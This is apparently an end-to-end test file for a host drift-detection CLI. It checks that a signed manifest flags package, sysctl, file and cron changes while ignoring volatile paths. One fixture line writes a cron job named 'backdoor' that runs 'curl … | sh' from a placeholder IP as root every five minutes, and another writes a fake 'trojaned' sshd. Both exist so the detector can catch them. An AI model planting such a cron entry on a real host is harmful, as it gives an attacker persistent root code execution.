/**
 * The real CLI against a fixture host root: bake a signed manifest, drift the root the way servers
 * drift, and get back exactly those deviations and none for changes under ignored paths.
 */
import { describe, expect, it, beforeAll } from 'vitest';
import { spawnSync } from 'node:child_process';
import { appendFileSync, chmodSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { digestOf } from '../../shared/canonical.js';
import { applyDeviations } from '../../shared/diff.js';
import { CheckResultSchema, type CheckResult } from '../../shared/schema/check.js';
import { ManifestSchema } from '../../shared/schema/manifest.js';
import { COLLECTOR_NAMES, type CollectorName } from '../../shared/schema/common.js';
import type { AnyItem } from '../../shared/schema/items.js';
import { copyFixture, FIXTURES, tempDir } from '../helpers/tmp.js';

const BIN = fileURLToPath(new URL('../../bin/driftwarden.js', import.meta.url));

function dw(...args: string[]) {
  const r = spawnSync(process.execPath, [BIN, ...args], {
    encoding: 'utf8',
    env: { ...process.env, DRIFTWARDEN_LOG_LEVEL: 'error' },
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

function checkJson(...args: string[]): { code: number | null; result: CheckResult; stderr: string } {
  const r = dw('check', '--json', ...args);
  expect(r.stderr, r.stderr).toBe('');
  return { code: r.code, result: CheckResultSchema.parse(JSON.parse(r.stdout)), stderr: r.stderr };
}

/** Each drift a person makes on a running server, applied to the root. */
function drift(root: string): void {
  const status = join(root, 'var/lib/dpkg/status');
  const text = readFileSync(status, 'utf8');
  // A package upgraded in place, and one added.
  writeFileSync(
    status,
    text.replace(/(Package: openssl\n(?:.+\n)*?)Version: 3\.0\.11-1~deb12u2/, '$1Version: 3.0.13-1~deb12u1'),
  );
  appendFileSync(
    status,
    '\nPackage: strace\nStatus: install ok installed\nArchitecture: amd64\nVersion: 6.1-0.1\nDescription: System call tracer\n',
  );
  writeFileSync(join(root, 'usr/bin/strace'), '#!/bin/sh\necho strace\n', { mode: 0o755 });
  // A kernel parameter tuned during an incident.
  writeFileSync(join(root, 'proc/sys/vm/swappiness'), '60\n');
  // A cron job added.
  writeFileSync(join(root, 'etc/cron.d/backdoor'), '*/5 * * * * root curl -s http://203.0.113.7/x | sh\n');
  // A binary replaced, a file's mode changed, a file removed.
  writeFileSync(join(root, 'usr/sbin/sshd'), '#!/bin/sh\necho trojaned sshd\n');
  chmodSync(join(root, 'etc/ssh/sshd_config'), 0o600);
  rmSync(join(root, 'usr/share/doc/openssl/changelog'));
  // Changes under ignored paths and volatile kernel counters: none of these may show.
  writeFileSync(join(root, 'etc/resolv.conf'), 'nameserver 192.0.2.1\n');
  writeFileSync(join(root, 'etc/ssh/ssh_host_ed25519_key'), 'REGENERATED\n');
  appendFileSync(join(root, 'var/log/app.log'), 'another line\n');
  writeFileSync(join(root, 'proc/sys/kernel/random/entropy_avail'), '256\n');
  writeFileSync(join(root, 'proc/sys/fs/file-nr'), '2048\t0\t9223372036854775807\n');
}

describe('driftwarden check, end to end', () => {
  let work: string;
  let root: string;
  let manifest: string;
  let pub: string;

  beforeAll(() => {
    work = tempDir();
    root = copyFixture(join(FIXTURES, 'hosts/web'));
    manifest = join(work, 'manifest.json');
    expect(dw('keygen', '--out', join(work, 'keys')).code).toBe(0);
    pub = join(work, 'keys/bake.pub');
    const built = dw(
      'manifest',
      'build',
      '--root',
      root,
      '--image-id',
      'img-web-1',
      '--name',
      'web',
      '--version',
      '1.0.0',
      '--sign-key',
      join(work, 'keys/bake.key'),
      '--out',
      manifest,
    );
    expect(built.stderr).toBe('');
    expect(built.code).toBe(0);
  });

  it('bakes a signed manifest with every section', () => {
    const m = ManifestSchema.parse(JSON.parse(readFileSync(manifest, 'utf8')));
    expect(Object.keys(m.sections).sort()).toEqual([
      'accounts',
      'cron',
      'files',
      'firewall',
      'kernel-modules',
      'packages',
      'services',
      'sysctl',
    ]);
    expect(m.os?.id).toBe('debian');
    expect(m.sections.packages!.items.map((i) => i.key)).toEqual([
      'bash:amd64',
      'libssl3:amd64',
      'openssh-server:amd64',
      'openssl:amd64',
      'tzdata:all',
    ]);
    const v = dw('manifest', 'verify', manifest, '--pubkey', pub);
    expect(v.code).toBe(0);
    expect(v.stdout).toContain('signature: valid');
  });

  it('finds the untouched root clean (exit 0)', () => {
    const { code, result } = checkJson('--manifest', manifest, '--root', root, '--pubkey', pub);
    expect(result.deviations).toEqual([]);
    expect(result.complete).toBe(true);
    expect(result.host.hostId).toBe('0123456789abcdef0123456789abcdef');
    expect(result.host.hostname).toBe('web-1');
    expect(code).toBe(0);
  });

  it('finds exactly the drift, none under ignored paths, and exits 1', () => {
    const drifted = copyFixture(root);
    drift(drifted);
    const { code, result } = checkJson('--manifest', manifest, '--root', drifted, '--pubkey', pub);
    const got = result.deviations.map((d) => `${d.collector} ${d.change} ${d.key}`).sort();
    const cron = result.deviations.filter((d) => d.collector === 'cron');
    expect(cron).toHaveLength(1);
    expect(cron[0]).toMatchObject({
      change: 'added',
      actual: { file: '/etc/cron.d/backdoor', user: 'root', schedule: '*/5 * * * *' },
    });
    expect(got).toEqual(
      [
        `cron added ${cron[0]!.key}`,
        'files added /etc/cron.d/backdoor',
        'files added /usr/bin/strace',
        'files modified /etc/ssh/sshd_config',
        'files modified /usr/sbin/sshd',
        'files removed /usr/share/doc/openssl/changelog',
        'packages added strace:amd64',
        'packages modified openssl:amd64',
        'sysctl modified vm.swappiness',
      ].sort(),
    );
    const byKey = new Map(result.deviations.map((d) => [d.key, d]));
    expect(byKey.get('openssl:amd64')).toMatchObject({
      fields: ['version'],
      expected: { version: '3.0.11-1~deb12u2' },
      actual: { version: '3.0.13-1~deb12u1' },
    });
    expect(byKey.get('vm.swappiness')).toMatchObject({
      fields: ['runtime'],
      expected: { runtime: '10', declared: '10' },
      actual: { runtime: '60', declared: '10' },
    });
    expect(byKey.get('/etc/ssh/sshd_config')).toMatchObject({
      fields: ['mode'],
      expected: { mode: '0644' },
      actual: { mode: '0600' },
      severity: 'critical',
    });
    expect(byKey.get('/usr/sbin/sshd')).toMatchObject({ fields: ['sha256', 'size'], severity: 'critical' });
    expect(result.summary.total).toBe(9);
    expect(code).toBe(1);
  });

  it('reports per-section digests that equal the manifest with the deviations applied', () => {
    const drifted = copyFixture(root);
    drift(drifted);
    const { result } = checkJson('--manifest', manifest, '--root', drifted);
    const m = ManifestSchema.parse(JSON.parse(readFileSync(manifest, 'utf8')));
    for (const name of COLLECTOR_NAMES as readonly CollectorName[]) {
      const expected = m.sections[name]!.items as AnyItem[];
      expect(digestOf(applyDeviations(name, expected, result.deviations)), name).toBe(result.digests[name]);
    }
  });

  it('prints deviations grouped by collector, expected against actual, for people', () => {
    const drifted = copyFixture(root);
    drift(drifted);
    const r = dw('check', '--manifest', manifest, '--root', drifted);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/packages: 2 deviations/);
    expect(r.stdout).toMatch(
      /modified openssl:amd64 {2}\[high\]\n {6}version: 3\.0\.11-1~deb12u2 -> 3\.0\.13-1~deb12u1/,
    );
    expect(r.stdout).toMatch(/DRIFT: 9 deviations/);
    // Piped: no progress output, and nothing on stderr but errors.
    expect(r.stderr).toBe('');
  });

  it('exits 2 with a message that names the problem', () => {
    const missing = dw('check', '--manifest', join(work, 'nope.json'), '--root', root);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/nope\.json does not exist/);

    const corrupt = join(work, 'corrupt.json');
    writeFileSync(corrupt, readFileSync(manifest, 'utf8').slice(0, 500));
    expect(dw('check', '--manifest', corrupt, '--root', root)).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/corrupt\.json is not valid JSON/),
    });

    const tampered = join(work, 'tampered.json');
    writeFileSync(tampered, readFileSync(manifest, 'utf8').replace('3.0.11-1~deb12u2', '3.0.13-1~deb12u1'));
    expect(dw('check', '--manifest', tampered, '--root', root)).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/section "packages" does not match its digest/),
    });

    const otherKeys = join(work, 'other');
    dw('keygen', '--out', otherKeys);
    expect(dw('check', '--manifest', manifest, '--root', root, '--pubkey', join(otherKeys, 'bake.pub'))).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/signed by key [0-9a-f]{16}, which is not a trusted key/),
    });

    expect(dw('check', '--manifest', manifest, '--root', join(work, 'no-such-root'))).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/root .*no-such-root cannot be read: ENOENT/),
    });
    expect(dw('check', '--manifest', manifest, '--root', root, '--frobnicate')).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/unknown option '--frobnicate'/),
    });
  });

  it('a new collector that cannot read its source makes the check incomplete, never clean', () => {
    const broken = copyFixture(root);
    rmSync(join(broken, 'etc/passwd'));
    rmSync(join(broken, 'proc/modules'));
    mkdirSync(join(broken, 'proc/modules'));
    const r = dw('check', '--json', '--manifest', manifest, '--root', broken);
    const result = CheckResultSchema.parse(JSON.parse(r.stdout));
    // Drift found (the files collector sees /etc/passwd gone): 1; with none, a failed collector alone exits 2.
    expect(r.code).toBe(1);
    expect(result.clean).toBe(false);
    expect(result.deviations.map((d) => `${d.collector} ${d.change} ${d.key}`)).toEqual(['files removed /etc/passwd']);
    // The failures are logged (at error) as well as reported.
    expect(r.stderr).toMatch(/"collector":"accounts".*"msg":"collector failed"/);
    expect(result.complete).toBe(false);
    expect(result.collectors.filter((c) => !c.ok).map((c) => [c.collector, c.error])).toEqual([
      ['kernel-modules', expect.stringMatching(/EISDIR/)],
      ['accounts', expect.stringMatching(/\/etc\/passwd not found under the root/)],
    ]);
    // Only proc/modules unreadable: nothing drifted that could be seen, and that proves nothing: 2.
    const modulesOnly = copyFixture(root);
    rmSync(join(modulesOnly, 'proc/modules'));
    mkdirSync(join(modulesOnly, 'proc/modules'));
    const m = dw('check', '--json', '--manifest', manifest, '--root', modulesOnly);
    expect(m.code).toBe(2);
    expect(CheckResultSchema.parse(JSON.parse(m.stdout))).toMatchObject({ complete: false, deviations: [] });
  });

  it('refuses to bake a manifest from an incomplete scan', () => {
    const broken = copyFixture(root);
    writeFileSync(
      join(broken, 'var/lib/dpkg/status'),
      'Package: a\nStatus: install ok installed\nno colon on this line\n',
    );
    const r = dw('manifest', 'build', '--root', broken, '--image-id', 'x', '--out', join(work, 'broken.json'));
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/refusing to build a manifest from an incomplete scan: packages: .*status:3/);
  });
});
